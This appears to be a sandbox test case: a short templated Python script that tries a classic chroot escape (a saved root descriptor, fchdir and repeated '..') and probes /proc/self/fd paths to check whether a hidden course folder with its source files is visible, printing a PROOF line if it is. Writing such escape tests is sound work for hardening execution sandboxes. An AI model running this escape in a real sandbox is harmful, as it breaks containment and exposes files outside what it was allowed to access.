# ---
# class: ptrace, namespaces and /proc
# tries: leaves its root by chroot, by descriptors of folders, by file handles, and by `..` beyond the root
# success: files outside are seen
# ---

# %% solution="total"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("jail", exist_ok=True)
root = os.open("/", os.O_RDONLY)
places = ["/" + "../" * 30 + "@COURSE@"]
try:
    os.chroot("jail")
    os.fchdir(root)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
for descriptor in range(3, 100):
    places.append(f"/proc/self/fd/{descriptor}@COURSE@")
    places.append(f"/proc/self/fd/{descriptor}/" + "../" * 20 + "@COURSE@")
if any(os.path.exists(f"{place}/source") for place in places):
    print("PROOF", "@NAME@", "saw the course folder", sep="::")
